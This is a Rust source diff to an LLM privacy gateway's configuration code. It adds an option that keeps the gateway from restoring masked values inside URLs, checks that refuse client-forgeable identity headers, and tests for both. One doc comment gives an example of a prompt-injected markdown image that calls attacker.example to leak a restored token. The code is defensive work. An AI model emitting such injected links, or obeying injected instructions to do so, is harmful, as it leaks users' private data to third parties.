@@ -64,6 +64,40 @@ pub struct GatewayConfig {
     /// sent again need no callout.
     #[serde(default)]
     pub token_cache: TokenCacheConfig,
+    /// Restore tokens that stand inside a URL in an answer (a link, an image, a query
+    /// string). Off by default: a prompt-injected `![x](https://attacker.example/?q=TOKEN)`
+    /// would otherwise carry the real value to a third party when the client renders it.
+    #[serde(default)]
+    pub restore_in_urls: bool,
+    /// The request's query string: scanned like a body, never rewritten.
+    #[serde(default)]
+    pub query: QueryConfig,
+}
+
+/// A value detected in the query string is refused (`reject`, 400 naming the kind) or
+/// forwarded (`pass`, counted). Parameters in `skip` are not scanned: a provider's own
+/// credential (Gemini's `key`) is not a value to refuse.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct QueryConfig {
+    #[serde(default)]
+    pub detected: RejectOrPass,
+    #[serde(default = "default_query_skip")]
+    pub skip: Vec<String>,
+}
+
+impl Default for QueryConfig {
+    fn default() -> Self {
+        QueryConfig {
+            detected: RejectOrPass::Reject,
+            skip: default_query_skip(),
+        }
+    }
+}
+
+/// Gemini's API key, and the API version Azure OpenAI asks for (a date).
+fn default_query_skip() -> Vec<String> {
+    vec!["key".into(), "api-version".into()]
 }
 
 #[derive(Debug, Clone, Deserialize)]
@@ -107,6 +141,8 @@ pub struct RouteOverride {
     pub invalid_json: Option<InvalidJson>,
     pub unknown_content_type: Option<RejectOrPass>,
     pub failure_mode: Option<FailureMode>,
+    pub restore_in_urls: Option<bool>,
+    pub query: Option<QueryConfig>,
     #[serde(default)]
     pub actions: BTreeMap<String, Action>,
 }
@@ -127,6 +163,8 @@ impl Default for GatewayConfig {
             actions: BTreeMap::new(),
             routes: BTreeMap::new(),
             token_cache: TokenCacheConfig::default(),
+            restore_in_urls: false,
+            query: QueryConfig::default(),
         }
     }
 }
@@ -182,9 +220,9 @@ fn default_timeout() -> u64 {
     2000
 }
 
-/// Where a request's tenant comes from: a header set by the authentication in front, a claim
-/// of the JWT that Envoy's `jwt_authn` verified, or a fixed value (per route); `default`
-/// applies when the header or claim is absent. No tenant at all is a 400.
+/// Where a request's tenant comes from: a claim of the JWT that Envoy's `jwt_authn` verified,
+/// a header Envoy guarantees (`trusted`), or a fixed value (per route); `default` applies
+/// when the header or claim is absent. No tenant at all is a 400.
 #[derive(Debug, Clone, Default, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct TenantSource {
@@ -193,23 +231,55 @@ pub struct TenantSource {
     #[serde(rename = "static")]
     pub fixed: Option<String>,
     pub default: Option<String>,
+    /// The header is set by Envoy in front of Veil, which removes any copy the client sent.
+    #[serde(default)]
+    pub trusted: bool,
+    /// Read a header the client controls anyway (see `check_header_trust`).
+    #[serde(default)]
+    pub insecure_client_may_forge: bool,
 }
 
-/// Where a request's scope comes from: a header (default `x-veil-scope`) or a JWT claim
-/// (`sub`, say). A request without one has no scope: its values are the tenant's.
-#[derive(Debug, Clone, Deserialize)]
+/// Where a request's scope (the user or conversation whose values these are) comes from: a
+/// verified JWT claim (`sub`, say) or a header Envoy guarantees. A request without one has no
+/// identity: its tokens are minted for that request alone and restore nowhere else.
+#[derive(Debug, Clone, Default, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct ScopeSource {
     pub header: Option<String>,
     pub jwt_claim: Option<String>,
+    /// The header is set by Envoy in front of Veil, which removes any copy the client sent.
+    #[serde(default)]
+    pub trusted: bool,
+    /// Read a header the client controls anyway (see `check_header_trust`).
+    #[serde(default)]
+    pub insecure_client_may_forge: bool,
 }
 
-impl Default for ScopeSource {
-    fn default() -> Self {
-        ScopeSource {
-            header: Some("x-veil-scope".into()),
-            jwt_claim: None,
-        }
+/// Whether a header source can be believed. A client can send any header; only a header that
+/// Envoy itself sets, after removing the client's copy (an authenticating filter in front of
+/// Veil), says who the request is from. A configuration must say which it has: `trusted`, or
+/// `insecure_client_may_forge`, under which any client can claim any identity and be given
+/// another's values (logged at load).
+fn check_header_trust(
+    at: &str,
+    header: Option<&String>,
+    trusted: bool,
+    insecure: bool,
+) -> Result<(), ConfigError> {
+    match (header, trusted, insecure) {
+            (Some(_), true, true) => Err(ConfigError::new(
+                at,
+                "give trusted or insecure_client_may_forge, not both",
+            )),
+            (Some(_), false, false) => Err(ConfigError::new(
+                format!("{at}.header"),
+                "a client can send this header and claim another user's identity: use jwt_claim, or set trusted: true if Envoy sets the header in front of Veil and removes any copy the client sent (insecure_client_may_forge: true accepts the risk)",
+            )),
+            (None, true, _) | (None, _, true) => Err(ConfigError::new(
+                at,
+                "trusted and insecure_client_may_forge apply to header sources only",
+            )),
+        _ => Ok(()),
     }
 }
 
@@ -331,6 +401,12 @@ impl GatewayConfig {
         if let Some(v) = o.failure_mode {
             merged.failure_mode = v;
         }
+        if let Some(v) = o.restore_in_urls {
+            merged.restore_in_urls = v;
+        }
+        if let Some(q) = &o.query {
+            merged.query = q.clone();
+        }
         merged
             .actions
             .extend(o.actions.iter().map(|(k, v)| (k.clone(), *v)));
@@ -401,6 +477,19 @@ impl GatewayConfig {
                 "give header or jwt_claim, not both",
             ));
         }
+        check_header_trust(
+            &format!("{at}.tenant"),
+            t.header.as_ref(),
+            t.trusted,
+            t.insecure_client_may_forge,
+        )?;
+        let s = &self.scope;
+        check_header_trust(
+            &format!("{at}.scope"),
+            s.header.as_ref(),
+            s.trusted,
+            s.insecure_client_may_forge,
+        )?;
         if self.vault.api_key_env.is_some() && !self.vault.api_key.is_empty() {
             return Err(ConfigError::new(
                 "gateway.vault.api_key_env",
@@ -435,6 +524,29 @@ impl GatewayConfig {
     }
 }
 
+impl GatewayConfig {
+    /// The identity sources that read a header the client controls, by field (logged at load).
+    pub fn forgeable_sources(&self) -> Vec<String> {
+        let mut out = Vec::new();
+        let mut add = |at: String, g: &GatewayConfig| {
+            if g.tenant.insecure_client_may_forge {
+                out.push(format!("{at}.tenant.header"));
+            }
+            if g.scope.insecure_client_may_forge {
+                out.push(format!("{at}.scope.header"));
+            }
+        };
+        add("gateway".into(), self);
+        for name in self.routes.keys() {
+            let merged = self.for_route(name).expect("the route exists");
+            add(format!("gateway.routes.{name}"), &merged);
+        }
+        out.sort();
+        out.dedup();
+        out
+    }
+}
+
 impl GatewayPart for GatewayConfig {
     fn validate(&self) -> Result<(), ConfigError> {
         self.validate_at("gateway")?;
@@ -459,7 +571,7 @@ mod tests {
     #[test]
     fn routes_override_the_plugin_wide_settings() {
         let g = gateway(
-            r#"{"tenant": {"header": "x-t"}, "actions": {"EMAIL_ADDRESS": "redact"},
+            r#"{"tenant": {"header": "x-t", "trusted": true}, "actions": {"EMAIL_ADDRESS": "redact"},
                 "routes": {"partner": {"tenant": {"static": "partner"}, "failure_mode": "open",
                                        "actions": {"CREDIT_CARD": "block"}}}}"#,
         )
@@ -513,7 +625,7 @@ mod tests {
             Source::JwtClaim("sub") => Some(String::new()),
             _ => None,
         };
-        let header = gateway(r#"{"tenant": {"header": "x-t"}}"#).unwrap();
+        let header = gateway(r#"{"tenant": {"header": "x-t", "trusted": true}}"#).unwrap();
         assert_eq!(header.tenant.resolve(read).as_deref(), Some("from-header"));
         let claim =
             gateway(r#"{"tenant": {"jwt_claim": "org"}, "scope": {"jwt_claim": "sub"}}"#).unwrap();
@@ -523,7 +635,9 @@ mod tests {
             None,
             "an empty claim is no scope"
         );
-        let fallback = gateway(r#"{"tenant": {"header": "x-none", "default": "d"}}"#).unwrap();
+        let fallback =
+            gateway(r#"{"tenant": {"header": "x-none", "trusted": true, "default": "d"}}"#)
+                .unwrap();
         assert_eq!(fallback.tenant.resolve(read).as_deref(), Some("d"));
         assert_eq!(fallback.scope.resolve(read), None);
         let none = gateway(r#"{"tenant": {"jwt_claim": "tid"}}"#).unwrap();
@@ -538,5 +652,53 @@ mod tests {
             None,
             "a number claim's raw bytes"
         );
+    }
+
+    #[test]
+    fn a_header_the_client_controls_is_refused_unless_the_config_accepts_the_risk() {
+        let e = gateway(r#"{"tenant": {"static": "a"}, "scope": {"header": "x-veil-scope"}}"#)
+            .unwrap_err();
+        assert!(
+            e.contains("gateway.scope.header") && e.contains("trusted"),
+            "{e}"
+        );
+        let e = gateway(r#"{"tenant": {"header": "x-tenant"}}"#).unwrap_err();
+        assert!(e.contains("gateway.tenant.header"), "{e}");
+        let e = gateway(
+            r#"{"tenant": {"static": "a"}, "routes": {"r": {"scope": {"header": "x-u"}}}}"#,
+        )
+        .unwrap_err();
+        assert!(e.contains("gateway.routes.r.scope.header"), "{e}");
+        let e = gateway(
+            r#"{"tenant": {"static": "a"}, "scope": {"jwt_claim": "sub", "trusted": true}}"#,
+        )
+        .unwrap_err();
+        assert!(e.contains("header sources only"), "{e}");
+
+        let trusted =
+            gateway(r#"{"tenant": {"static": "a"}, "scope": {"header": "x-u", "trusted": true}}"#)
+                .unwrap();
+        assert!(trusted.forgeable_sources().is_empty());
+        let risky = gateway(
+            r#"{"tenant": {"static": "a"}, "scope": {"header": "x-u", "insecure_client_may_forge": true},
+                "routes": {"r": {"tenant": {"header": "x-t", "insecure_client_may_forge": true}}}}"#,
+        )
+        .unwrap();
+        assert_eq!(
+            risky.forgeable_sources(),
+            vec![
+                "gateway.routes.r.scope.header",
+                "gateway.routes.r.tenant.header",
+                "gateway.scope.header"
+            ]
+        );
+    }
+
+    #[test]
+    fn no_scope_is_configured_by_default() {
+        let g = gateway(r#"{"tenant": {"static": "a"}}"#).unwrap();
+        assert!(g.scope.header.is_none() && g.scope.jwt_claim.is_none());
+        assert!(!g.restore_in_urls);
+        assert_eq!(g.query.skip, vec!["key", "api-version"]);
     }
 }
